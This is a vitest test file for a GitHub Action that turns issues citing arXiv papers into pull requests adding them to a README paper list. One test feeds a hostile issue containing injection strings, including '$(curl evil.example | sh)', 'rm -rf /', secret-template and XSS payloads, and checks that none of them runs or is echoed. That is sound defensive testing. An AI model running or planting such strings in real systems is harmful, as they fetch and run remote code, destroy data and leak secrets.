// The Action's `add-from-issue` end to end: an `issues` event, a fake GitHub API and a fake arXiv on loopback;
// the papers go into the list on a branch, in a pull request closing the issue, and the issue hears of it.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { arxivIdsOfIssue, MAX_PAPERS_PER_ISSUE, sectionOfIssue } from '../../src/action/add-from-issue.js';
import { type FakeArxiv, startFakeArxiv } from '../helpers/fake-arxiv.js';
import { type FakeGithub, startFakeGithub } from '../helpers/fake-github.js';
import { type FakeContents, serveContents } from './fake-contents.js';
import { runInProcess } from './harness.js';
import { TOKEN, workspaceWith } from './scenario.js';

const LIST = [
  '# Papers',
  '',
  '## Recommendation',
  '',
  '- LLaRA: Aligning Large Language Models with Sequential Recommenders, arxiv 2023/12, [[paper]](https://arxiv.org/abs/2312.02445)',
  '- NineRec: A Benchmark Dataset Suite for Evaluating Transferable Recommendation, arxiv 2023/09, [[paper]](https://arxiv.org/abs/2309.07705)',
  '',
  '## Graphs',
  '',
  '- Graph Neural Prompting with Large Language Models, arxiv 2023/09, [[paper]](https://arxiv.org/abs/2309.15427)',
  '',
].join('\n');

let arxiv: FakeArxiv;
let github: FakeGithub;
let contents: FakeContents;

beforeEach(async () => {
  arxiv = await startFakeArxiv({
    catalogue: {
      '2406.01234': [
        {
          title: 'Sequential Recommendation with Retrieval-Augmented Language Models',
          authors: ['Ada Lovelace'],
          comment: 'Code: https://github.com/ada/seqrag',
          published: '2024-06-03T10:00:00Z',
          summary: 'Sequential recommenders that retrieve.',
        },
      ],
      '2407.00777': [
        { title: 'Graph Transformers Everywhere', published: '2024-07-01T10:00:00Z', summary: 'Graphs.' },
      ],
    },
  });
  github = await startFakeGithub();
  contents = serveContents(github, { 'README.md': LIST });
});
afterEach(async () => {
  await Promise.all([arxiv.close(), github.close()]);
});

function issueEvent(issue: { number: number; title: string; body: string | null; state?: string }) {
  return {
    workspace: workspaceWith({}),
    event: 'issues',
    payload: {
      action: 'opened',
      issue: { state: 'open', user: { login: 'contributor' }, ...issue },
      repository: { name: 'papers', owner: { login: 'octo' }, default_branch: 'main' },
    },
    inputs: { 'add-from-issue': 'true', 'github-token': TOKEN, files: 'README.md' },
    apiUrl: github.api,
  };
}
const network = { verify: { arxivApi: '', arxivInterval: 0, allowPrivateHosts: true } };
const run = (issue: Parameters<typeof issueEvent>[0]) =>
  runInProcess(issueEvent(issue), { verify: { ...network.verify, arxivApi: arxiv.api } });

describe('add-from-issue', () => {
  it('opens a pull request adding the issue’s paper in the list’s style, and tells the issue', async () => {
    const body = '### arXiv link\n\nhttps://arxiv.org/abs/2406.01234v2\n\n### Section\n\n_No response_\n';
    const result = await run({ number: 7, title: 'Add paper: sequential RAG', body });
    expect(result.exitCode).toBe(0);
    const branch = 'paperlint/add-issue-7';
    const entry =
      '- Sequential Recommendation with Retrieval-Augmented Language Models, arxiv 2024/06, [[paper]](https://arxiv.org/abs/2406.01234)';
    expect(contents.files.get(branch)?.get('README.md')?.text).toBe(
      LIST.replace('2309.07705)\n', `2309.07705)\n${entry}\n`),
    );
    expect(contents.files.get('main')?.get('README.md')?.text).toBe(LIST);
    expect(contents.commits).toEqual([
      { branch, path: 'README.md', message: 'Add arXiv 2406.01234 (from #7)' },
    ]);
    expect(contents.pulls).toHaveLength(1);
    const [pull] = contents.pulls;
    expect(pull).toMatchObject({ number: 100, head: branch, base: 'main', title: 'Add arXiv 2406.01234' });
    expect(pull.body).toMatch(/Closes #7$/);
    expect(pull.body).toContain(`\`\`\`markdown\n${entry}\n\`\`\``);
    expect(contents.comments).toHaveLength(1);
    expect(contents.comments[0].issue).toBe(7);
    expect(contents.comments[0].body).toMatch(
      /^paperlint opened #100:\n\n- arXiv `2406.01234`: added to `README.md` under \*Recommendation\*/,
    );
    expect(result.summary).toContain('Opened pull request #100 for issue #7.');
    expect(result.visible).not.toContain(TOKEN);
  });

  it('takes the section the issue form names, and several papers in one pull request', async () => {
    const body =
      '### arXiv link\n\nhttps://arxiv.org/abs/2406.01234 and arXiv:2407.00777\n\n### Section\n\nGraphs\n';
    await run({ number: 8, title: 'Two papers', body });
    const text = contents.files.get('paperlint/add-issue-8')?.get('README.md')?.text ?? '';
    expect(text.split('\n').slice(-4)).toEqual([
      '- Graph Neural Prompting with Large Language Models, arxiv 2023/09, [[paper]](https://arxiv.org/abs/2309.15427)',
      '- Sequential Recommendation with Retrieval-Augmented Language Models, arxiv 2024/06, [[paper]](https://arxiv.org/abs/2406.01234)',
      '- Graph Transformers Everywhere, arxiv 2024/07, [[paper]](https://arxiv.org/abs/2407.00777)',
      '',
    ]);
    expect(contents.pulls[0].title).toBe('Add arXiv 2406.01234, arXiv 2407.00777');
  });

  it('tells the issue why nothing was added: already listed, no such paper, no link at all', async () => {
    await run({
      number: 9,
      title: 'Dup',
      body: 'https://arxiv.org/pdf/2312.02445.pdf and https://arxiv.org/abs/2408.99999',
    });
    await run({ number: 10, title: 'Nothing', body: 'Please add the attention paper!' });
    expect(contents.pulls).toEqual([]);
    expect(contents.refs.size).toBe(1);
    expect(contents.comments).toEqual([
      {
        issue: 9,
        body: 'paperlint added nothing:\n\n- arXiv `2312.02445`: not added, already listed at line 5 of `README.md`.\n- arXiv `2408.99999`: no such paper on arXiv.',
      },
      {
        issue: 10,
        body: 'paperlint found no arXiv link in this issue: write one such as `https://arxiv.org/abs/2406.01234` (or `arXiv:2406.01234`).',
      },
    ]);
  });

  it('runs again on an edited issue: the branch and pull request are reused', async () => {
    const issue = { number: 11, title: 'Add', body: 'https://arxiv.org/abs/2406.01234' };
    await run(issue);
    const second = await run(issue);
    expect(second.exitCode).toBe(0);
    expect(contents.pulls).toHaveLength(1);
    expect(contents.commits).toHaveLength(2);
    expect(contents.comments.map((comment) => comment.body.split('\n')[0])).toEqual([
      'paperlint opened #100:',
      'paperlint opened #100:',
    ]);
  });

  it('treats a hostile issue as text: nothing of it runs, echoes or reaches the list unescaped', async () => {
    const hostile = [
      '::error file=README.md::pwned',
      '::set-output name=errors::0',
      '@octo/maintainers @everyone #1',
      '<script>alert(1)</script> <img src=x onerror=alert(1)>',
      `\${{ secrets.GITHUB_TOKEN }} $(curl evil.example | sh) 'rm -rf /'`,
      '[click](javascript:alert(1))',
      '### Section',
      '',
      '`](https://evil.example) <!-- ',
      ...Array.from({ length: 30 }, (_, i) => `https://arxiv.org/abs/2406.${String(10000 + i)}`),
      'https://arxiv.org/abs/2406.01234',
      'x'.repeat(200_000),
    ].join('\n');
    const result = await run({ number: 12, title: '```\n::warning::title @everyone', body: hostile });
    expect(result.exitCode).toBe(0);
    // At most 10 papers are looked up, in one request.
    expect(arxiv.idLists().at(-1)).toHaveLength(MAX_PAPERS_PER_ISSUE);
    // No workflow command from the issue reached the log; nothing of it reached the comments or pull requests.
    expect(result.stdout).not.toMatch(/^::(?:error|warning|set-output)/m);
    const said = contents.comments.map((comment) => comment.body).join('\n');
    for (const piece of [
      'pwned',
      '@everyone',
      '<script>',
      'secrets.',
      'javascript:',
      'evil.example',
      'rm -rf',
    ])
      expect(said, piece).not.toContain(piece);
    expect(contents.pulls).toEqual([]);
    expect(result.visible).not.toContain(TOKEN);
  });
});

describe('reading an issue', () => {
  it('finds arXiv links, arXiv: ids and bare ids on a line of their own; at most ten', () => {
    expect(
      arxivIdsOfIssue(
        'See arxiv.org/pdf/2305.11700v2.pdf, arXiv:2306.01234 and https://www.arxiv.org/abs/hep-th/9901001\n2307.00001\nnot 2308.00001 inline, nor https://example.org/abs/2309.00001',
      ),
    ).toEqual(['2305.11700', '2306.01234', 'hep-th/9901001', '2307.00001']);
    expect(arxivIdsOfIssue('https://arxiv.org/abs/2313.00001 arXiv:2305.1')).toEqual([]);
    expect(
      arxivIdsOfIssue(Array.from({ length: 20 }, (_, i) => `arXiv:2401.${10000 + i}`).join(' ')),
    ).toHaveLength(10);
  });

  it('reads the Section answer of an issue form', () => {
    expect(sectionOfIssue('### arXiv link\n\nx\n\n### Section\n\nGraph Retrieval\n')).toBe('Graph Retrieval');
    expect(sectionOfIssue('### Section\n\n_No response_\n')).toBeUndefined();
    expect(sectionOfIssue('no form')).toBeUndefined();
  });
});
